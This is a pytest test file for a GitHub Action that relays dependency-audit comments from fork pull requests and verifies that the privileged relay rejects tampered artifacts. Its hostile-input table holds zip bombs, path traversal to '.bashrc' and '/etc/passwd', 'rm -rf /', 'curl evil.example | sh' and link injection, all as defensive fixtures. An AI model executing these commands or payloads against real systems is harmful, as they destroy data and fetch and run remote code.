"""The two workflows for forks: what a run with a read-only token leaves, and what one that may write makes of it."""

from __future__ import annotations

import gzip
import io
import json
import re
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from auditor.database.load import load_database
from auditor.github import artifact, relay
from auditor.github.__main__ import run
from auditor.github.api import Api
from auditor.github.artifact import Parcel, Untrusted, unpack
from auditor.github.event import read_event
from auditor.github.grounds import grounded
from tests.github import described
from tests.github.conftest import REPOSITORY_ID, Fault, GitHub

SHA, FORK = "a" * 40, ("somebody/r", 2)
CODE = "import tensorflow as tf\ntf.keras.callbacks.ReduceLROnPlateau(min_lr=1e-3)\n"
RUN = 77


def pull_event(name: str = FORK[0]) -> dict[str, Any]:
    """What GitHub writes for a pull request of a fork."""
    return {"number": 7, "pull_request": {"head": {"sha": SHA, "repo": {"full_name": name}}}}


def ended_event(**changes: Any) -> dict[str, Any]:
    """What GitHub writes when the audit's run has ended."""
    ran = {
        "id": RUN, "event": "pull_request", "head_sha": SHA, "name": "audit",
        "head_repository": {"id": FORK[1], "full_name": FORK[0]}, **changes,
    }  # fmt: skip
    return {"action": "completed", "workflow_run": ran, "repository": {"id": REPOSITORY_ID, "full_name": "o/r"}}


class Two:
    """Two runs: the one that audits, and the one that comments."""

    def __init__(self, folder: Path, github: GitHub) -> None:
        self.folder, self.github = folder, github
        (folder / "work").mkdir(parents=True)
        (folder / "work" / "requirements.txt").write_text("tensorflow==2.3.1\n")
        (folder / "work" / "train.py").write_text(CODE)
        github.pull(7, SHA, FORK)

    def environ(self, name: str, event: object, **more: str) -> dict[str, str]:
        """A run's variables."""
        path = self.folder / "event.json"
        path.write_text(event if isinstance(event, str) else json.dumps(event))
        return {
            "GITHUB_EVENT_NAME": name, "GITHUB_EVENT_PATH": str(path), "GITHUB_REPOSITORY": "o/r", "GITHUB_SHA": "c" * 40,
            "GITHUB_WORKFLOW": "audit", "GITHUB_JOB": "audit", "GITHUB_API_URL": self.github.url,
            "GITHUB_WORKSPACE": str(self.folder / "work"), "RUNNER_TEMP": str(self.folder),
            "GITHUB_OUTPUT": str(self.folder / "outputs"), "INPUT_GITHUB_TOKEN": "t", "GITHUB_RUN_ID": str(RUN),
            "GITHUB_RUN_ATTEMPT": "1", **more,
        }  # fmt: skip

    def audit(self, event: object = None) -> bytes:
        """The first run; what it leaves."""
        assert (
            run(self.environ("pull_request", event or pull_event(), INPUT_FAIL_ON="never", INPUT_ADVISORIES="false"))
            == 0
        )
        outputs = (self.folder / "outputs").read_text()
        path = re.search(r"^relay<<(.*)\n(.*)\n\1$", outputs, re.MULTILINE)
        assert path is not None
        return Path(path[2]).read_bytes()

    def relay(self, data: bytes, event: object = None, **more: str) -> int:
        """The second run, with what the first one left."""
        self.github.artifact(data, name="silent-audit", run=RUN, sha=SHA, head_id=FORK[1])
        return relay.run(self.environ("workflow_run", event or ended_event(), **more))


@pytest.fixture
def two(tmp_path: Path, github: GitHub) -> Two:
    """Both runs, with a server."""
    return Two(tmp_path / "two", github)


@pytest.fixture(scope="module")
def left(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """What an honest run leaves."""
    github = GitHub()
    try:
        return Two(tmp_path_factory.mktemp("left") / "two", github).audit()
    finally:
        github.close()


def zipped(data: bytes, name: str = artifact.NAME, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive as the runner's upload makes it."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        archive.writestr(name, data)
    return held.getvalue()


def test_a_fork_gets_its_comment(two: Two, left: bytes) -> None:
    assert two.relay(zipped(left)) == 0
    (body,) = two.github.bodies()
    assert "ReduceLROnPlateau" in body
    assert f"https://github.com/o/r/blob/{SHA}/train.py#L2" in body
    assert [method for method, _ in two.github.requests] == ["GET", "GET", "GET", "GET", "GET", "POST", "GET"]


def test_the_comment_is_the_one_that_a_token_that_may_write_would_have_left(two: Two, left: bytes) -> None:
    two.relay(zipped(left))
    (relayed,) = two.github.bodies()
    two.github.comments.clear()
    assert run(two.environ("pull_request", pull_event("o/r"), INPUT_FAIL_ON="never", INPUT_ADVISORIES="false")) == 0
    assert two.github.bodies() == [relayed]


def test_it_is_brought_up_to_date(two: Two, left: bytes) -> None:
    two.relay(zipped(left))
    two.github.comments[0]["body"] += "\nolder"
    two.github.artifacts.clear()
    two.relay(zipped(left))
    assert len(two.github.bodies()) == 1
    assert "older" not in two.github.bodies()[0]


def test_a_bot_whose_token_can_only_read_leaves_it_too(two: Two) -> None:
    """Dependabot's pull requests are of the repository itself, and their token can read only."""
    two.github.read_only = True
    two.github.pull(7, SHA, ("o/r", REPOSITORY_ID))
    left = two.audit(pull_event("o/r"))
    two.github.read_only = False
    ended = ended_event(head_repository={"id": REPOSITORY_ID, "full_name": "o/r"})
    assert two.relay(zipped(left), ended) == 0
    assert len(two.github.bodies()) == 1


def test_each_audit_of_a_run_has_an_artifact_of_its_own(two: Two) -> None:
    event = read_event(two.environ("pull_request", pull_event()))
    names = [artifact.folder(event, {"identity": one}) for one in (".", "speech", 'a:"<>|*?\r\n\\/b')]
    names.append(artifact.folder(msgspec.structs.replace(event, job="other"), {"identity": "."}))
    assert len(set(names)) == 4
    assert all(re.fullmatch(r"silent-audit-[0-9a-f]{12}", name) for name in names)


def test_several_audits_of_one_run(two: Two, left: bytes) -> None:
    other = msgspec.structs.replace(unpack(zipped(left)), identity={"identity": "speech"})
    two.github.artifact(zipped(msgspec.json.encode(other)), name="silent-audit-speech", run=RUN, sha=SHA, head_id=2)
    two.github.artifact(b"else", name="coverage", run=RUN, sha=SHA, head_id=2)
    assert two.relay(zipped(left)) == 0
    assert len(two.github.bodies()) == 2


def test_a_run_that_was_run_again(two: Two, left: bytes) -> None:
    """Both attempts have left something; the later one counts."""
    two.github.artifact(b"older", name="silent-audit", run=RUN, sha=SHA, head_id=2)
    assert two.relay(zipped(left)) == 0
    assert len(two.github.bodies()) == 1
    assert sum(path.endswith("/zip") for _, path in two.github.requests) == 1


def test_where_there_is_no_artifact_there_is_nothing_to_do(two: Two) -> None:
    assert relay.run(two.environ("workflow_run", ended_event())) == 0
    assert two.github.bodies() == []


def changed(change: Callable[[dict[str, Any]], object]) -> Callable[[bytes], bytes]:
    """An archive whose parcel was changed by hand."""

    def make(left: bytes) -> bytes:
        parcel = json.loads(left)
        change(parcel)
        return zipped(json.dumps(parcel).encode())

    return make


def two_files(left: bytes) -> bytes:
    """The parcel, and something beside it."""
    held = io.BytesIO(zipped(left))
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr("../../.bashrc", "x")
    return held.getvalue()


def lying_size(left: bytes) -> bytes:
    """A bomb that says of itself that it is small."""
    bomb = zipped(b" " * 50_000_000)
    return bomb.replace(struct.pack("<I", 50_000_000), struct.pack("<I", 100))


def encrypted(left: bytes) -> bytes:
    """An archive that says it is encrypted."""
    data = bytearray(zipped(left))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def finding(**fields: Any) -> Callable[[bytes], bytes]:
    """A parcel whose first finding has other fields."""
    return changed(lambda parcel: parcel["audit"]["findings"][0].update(fields))


def place(path: str, line: int = 1) -> list[dict[str, Any]]:
    """A finding's places."""
    return [{"path": path, "line": line}]


HOSTILE: dict[str, Callable[[bytes], bytes]] = {
    "no archive": lambda left: left,
    "nothing": lambda left: b"",
    "an archive cut short": lambda left: zipped(left)[:-30],
    "an archive of nothing": lambda left: b"PK\x05\x06" + b"\0" * 18,
    "two files": two_files,
    "another file": lambda left: zipped(left, "other.json"),
    "a file outside": lambda left: zipped(left, f"../{artifact.NAME}"),
    "encrypted": encrypted,
    "a bomb": lambda left: zipped(b" " * 50_000_000),
    "a bomb that lies": lying_size,
    "a bomb of another kind": lambda left: zipped(b" " * 50_000_000, method=zipfile.ZIP_BZIP2),
    "an archive that is too large": lambda left: zipped(left + b" " * 1_100_000, method=zipfile.ZIP_STORED),
    "not JSON": lambda left: zipped(b"{"),
    "no object": lambda left: zipped(b"[]"),
    "not UTF-8": lambda left: zipped(b'{"tool": "\xff\xfe"}'),
    "endless depth": lambda left: zipped(b'{"x":' + b"[" * 200_000 + b"]" * 200_000 + b"}"),
    "another version": changed(lambda parcel: parcel.update(tool="0.0.1")),
    "another format": changed(lambda parcel: parcel.update(format=2)),
    "an unknown field": changed(lambda parcel: parcel.update(run="rm -rf /")),
    "a number that is none": changed(lambda parcel: parcel.update(pull_request="7; true")),
    "a negative number": changed(lambda parcel: parcel.update(pull_request=-7)),
    "no audit": changed(lambda parcel: parcel.pop("audit")),
    "a commit that is none": changed(lambda parcel: parcel.update(head="main")),
    "another commit": changed(lambda parcel: parcel.update(head="b" * 40)),
    "a bug that nobody knows": finding(id="TF-1"),
    "a level that is none": changed(lambda parcel: parcel["audit"].update(fail_on=9)),
    "evidence that is none": finding(evidence="proved"),
    "a path that goes up": finding(locations=place("../../../evil/phish/blob/main/x.py")),
    "a path from the root": finding(locations=place("/etc/passwd")),
    "an address for a path": finding(locations=place("https://evil.example/x")),
    "a line before the first": finding(locations=place("train.py", -1)),
    "a line that is no number": finding(locations=[{"path": "train.py", "line": "1"}]),
    "a version that is a sentence": finding(implementation={"package": "tensorflow", "version": "see evil.example"}),
    "a package of another kind": finding(way_out={"package": "evil", "fixed_in": "1.0"}),
    "a way out that is a sentence": finding(way_out={"package": "tensorflow", "fixed_in": "curl evil.example | sh"}),
    "a variant that is none": finding(variant="evil"),
    "an advisory that is an address": changed(
        lambda parcel: parcel["audit"].update(
            advisories={"audited": 1, "found": [{"package": "x", "version": "1", "id": "https://evil.example"}]}
        )
    ),
}


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_artifact(two: Two, left: bytes, make: Callable[[bytes], bytes], capsys: Any) -> None:
    assert two.relay(make(left)) == 0
    assert two.github.bodies() == []
    out = capsys.readouterr().out
    assert out.startswith("::warning title=silent-audit::no comment: ")
    assert "evil" not in out


def test_each_hostile_artifact_would_pass_unchanged(two: Two, left: bytes) -> None:
    """What the cases change is what is refused: the parcel as it is passes."""
    assert two.relay(changed(lambda parcel: None)(left)) == 0
    assert len(two.github.bodies()) == 1


def test_a_bomb_is_never_unpacked_beyond_its_bound(left: bytes) -> None:
    import tracemalloc

    bomb = lying_size(left)
    tracemalloc.start()
    with pytest.raises(Untrusted):
        unpack(bomb)
    assert tracemalloc.get_traced_memory()[1] < 3 * artifact.MAX_BYTES
    tracemalloc.stop()


def texts(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The ways to every text within a JSON value, and to every text that is a key."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from texts(inner, (*path, key))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            yield from texts(inner, (*path, index))
    elif isinstance(value, str):
        yield path


def test_no_sentence_of_a_run_is_ever_said(left: bytes) -> None:
    """Each text of a parcel, one after the other, is replaced by one that wants to be read."""
    from auditor.report import markdown

    evil = "EVIL @everyone [click](https://evil.example)"
    whole = json.loads(left)
    parcel = whole["audit"]
    parcel["advisories"] = {
        "audited": 2, "found": [{"package": "numpy", "version": "1.0", "id": "CVE-2021-1", "summary": "s", "location": {"path": "r", "line": 1}}],
        "skipped": [["x", "why"]], "failure": "why",
    }  # fmt: skip
    parcel["skips"] = [{"location": {"path": "a.py", "line": 1}, "reason": "why", "partial": True}]
    parcel["change"] = {
        "base": "d" * 40, "brought": ["0" * 32], "already": [], "fixed": parcel["findings"][:1],
        "moves": [{"package": "tensorflow", "old": "2.2.3", "new": "2.3.1", "location": {"path": "r", "line": 1}}],
        "unseen": parcel["skips"], "sources": {"train.py:2": "x"},
    }  # fmt: skip
    database = load_database()
    grounded(msgspec.convert(whole, Parcel).audit, database)
    tried = refused = 0
    for path in list(texts(whole)):
        changed = json.loads(json.dumps(whole))
        held = changed
        for key in path[:-1]:
            held = held[key]
        held[path[-1]] = evil
        tried += 1
        try:
            told = grounded(msgspec.convert(changed, Parcel).audit, database)
        except (Untrusted, msgspec.ValidationError):
            refused += 1
            continue
        said = re.sub(r"<code>.*?</code>", "", markdown.render(told))
        assert "EVIL" not in said, path
        assert "evil.example" not in said, path
    assert tried > 100
    assert refused > 50


def test_no_run_of_a_repro_is_believed(left: bytes) -> None:
    parcel = json.loads(left)
    parcel["audit"]["findings"][0]["evidence"] = "reproduced"
    told = grounded(msgspec.convert(parcel, Parcel).audit, load_database())
    assert {one.evidence.value for one in told.findings} <= {"installed", "used", "triggered"}


def moved_on(github: GitHub) -> None:
    """A newer commit was pushed."""
    github.pull(7, "b" * 40, FORK)


def another_fork(github: GitHub) -> None:
    """The number is one of somebody else's pull request, of the same commit."""
    github.pull(7, SHA, ("victim/r", 3))


def gone(github: GitHub) -> None:
    """The fork was deleted."""
    github.pull(7, SHA, None)


def closed(github: GitHub) -> None:
    """The pull request was closed."""
    github.pull(7, SHA, FORK, state="closed")


def unknown(github: GitHub) -> None:
    """There is no such pull request."""
    github.pulls.clear()


@pytest.mark.parametrize(
    ("happens", "says"),
    [
        (moved_on, "::notice title=silent-audit::no comment: the pull request has moved on"),
        (another_fork, "::warning title=silent-audit::no comment: the pull request that the artifact names is not"),
        (gone, "::notice title=silent-audit::no comment: the repository that the pull request came from is gone"),
        (closed, "::notice title=silent-audit::no comment: the pull request is closed"),
        (unknown, "::error title=silent-audit::GitHub answers 404"),
    ],
)
def test_the_pull_request_is_proved(
    two: Two, left: bytes, happens: Callable[[GitHub], None], says: str, capsys: Any
) -> None:  # fmt: skip
    happens(two.github)
    two.relay(zipped(left))
    assert two.github.bodies() == []
    assert capsys.readouterr().out.startswith(says)


@pytest.mark.parametrize(
    "body",
    [
        [], {}, {"number": 8}, "x",
        {"number": 7, "state": "open", "head": {"sha": SHA}, "base": {"sha": SHA}},
        {"number": 8, "state": "open", "head": {"sha": SHA, "repo": {"id": 2, "full_name": "a/b"}},
         "base": {"sha": SHA, "repo": {"id": 1, "full_name": "o/r"}}},
        {"number": 7, "state": "open", "head": {"sha": SHA, "repo": {"id": 2, "full_name": "a/b"}},
         "base": {"sha": SHA, "repo": {"id": 9, "full_name": "o/r"}}},
        {"number": 7, "state": "open", "head": {"sha": SHA, "repo": {"id": 2, "full_name": "a/b](https://evil)"}},
         "base": {"sha": SHA, "repo": {"id": 1, "full_name": "o/r"}}},
    ],
)  # fmt: skip
def test_an_api_that_lies_of_the_pull_request(two: Two, left: bytes, body: object) -> None:
    usual = two.github.route

    def route(handler: Any, parts: list[str], query: dict[str, str], sent: dict[str, Any]) -> None:
        if parts[0] == "pulls":
            two.github.send(handler, 200, body)
        else:
            usual(handler, parts, query, sent)

    two.github.route = route  # type: ignore[method-assign]
    two.relay(zipped(left))
    assert two.github.bodies() == []


@pytest.mark.parametrize(
    "listed",
    [
        [], {}, {"artifacts": {}}, {"artifacts": [1, None, "x", {}]}, {"artifacts": [{"id": "1", "name": "silent-audit"}]},
        {"artifacts": [{"id": 500, "name": ["silent-audit"]}]}, {"artifacts": [{"id": 500, "name": "silent-audit"}]},
        {"artifacts": [{"id": 500, "name": "silent-audit", "size_in_bytes": 10**12}]},
        {"artifacts": [{"id": 500, "name": "silent-audit", "size_in_bytes": 1, "expired": True}]},
    ],
)  # fmt: skip
def test_an_api_that_lies_of_the_artifacts(two: Two, left: bytes, listed: object) -> None:
    two.github.faults.append(("GET", Fault(200, body=listed)))
    two.relay(zipped(left))
    assert two.github.bodies() == []


def test_the_storage_gets_no_token(two: Two, left: bytes) -> None:
    elsewhere = GitHub()
    elsewhere.artifacts = two.github.artifacts
    two.github.storage = elsewhere.url
    assert two.relay(zipped(left)) == 0
    assert len(two.github.bodies()) == 1
    assert elsewhere.tokens == [None]
    elsewhere.close()


def test_an_artifact_that_does_not_end(two: Two, left: bytes, capsys: Any) -> None:
    """Its size in the list is a lie, too."""
    two.github.artifact(b"0" * 3_000_000, name="silent-audit", run=RUN, sha=SHA, head_id=2)
    two.github.artifacts[0][0]["size_in_bytes"] = 100
    assert relay.run(two.environ("workflow_run", ended_event())) == 2
    assert "the artifact is too large" in capsys.readouterr().out


def test_an_artifact_that_is_packed_once_more(two: Two, capsys: Any) -> None:
    """The storage sends little that unpacks to much."""
    packed = gzip.compress(b"0" * 50_000_000)
    usual = two.github.stored

    def stored(handler: Any, id: int) -> None:
        handler.send_response(200)
        handler.send_header("Content-Encoding", "gzip")
        handler.send_header("Content-Length", str(len(packed)))
        handler.end_headers()
        handler.wfile.write(packed)

    two.github.stored = stored  # type: ignore[method-assign]
    two.github.artifact(b"0", name="silent-audit", run=RUN, sha=SHA, head_id=2)
    assert relay.run(two.environ("workflow_run", ended_event())) == 2
    assert "the artifact's storage answers" in capsys.readouterr().out
    two.github.stored = usual  # type: ignore[method-assign]


@pytest.mark.parametrize(
    ("name", "event"),
    [
        ("workflow_run", '{"workflow_run": {"id"'),
        ("workflow_run", "[]"),
        ("workflow_run", {"workflow_run": {"id": "1"}}),
        ("workflow_run", {**ended_event(), "repository": {"id": 1, "full_name": "../../user"}}),
        ("pull_request_target", ended_event()),
        ("push", {}),
    ],
)
def test_a_broken_event(two: Two, name: str, event: object, capsys: Any) -> None:
    assert relay.run(two.environ(name, event)) == 2
    assert capsys.readouterr().out.startswith("::error title=silent-audit::")
    assert two.github.requests == []


@pytest.mark.parametrize("event", ["push", "schedule", "pull_request_target", "x::y\n::set-output"])
def test_runs_for_other_events_are_left_alone(two: Two, left: bytes, event: str, capsys: Any) -> None:
    assert two.relay(zipped(left), ended_event(event=event)) == 0
    assert two.github.requests == []
    assert len(capsys.readouterr().out.splitlines()) == 1


def test_it_asks_as_github_describes(left: bytes, tmp_path: Path) -> None:
    github = GitHub()
    with described.prism("proxy", str(described.npm() / "paths.json"), github.url) as url:
        api = Api(url, "t")
        watched = described.Watched()
        api._session.mount("http://", watched)
        github.pull(7, SHA, FORK)
        github.artifact(zipped(left), name="silent-audit", run=RUN, sha=SHA, head_id=2)
        assert api.pull("o/r", 7)["number"] == 7
        assert [one["name"] for one in api.artifacts("o/r", RUN)] == ["silent-audit"]
        assert watched.violations == []
    github.close()
    with described.prism("mock", "--errors", str(described.npm() / "paths.json")) as url:
        api = Api(url, "t")
        watched = described.Watched({})
        api._session.mount("http://", watched)
        answer = api._send("GET", f"{url}/repos/o/r/actions/artifacts/500/zip", expected=302)
        assert answer.headers["Location"]
        assert watched.violations == []
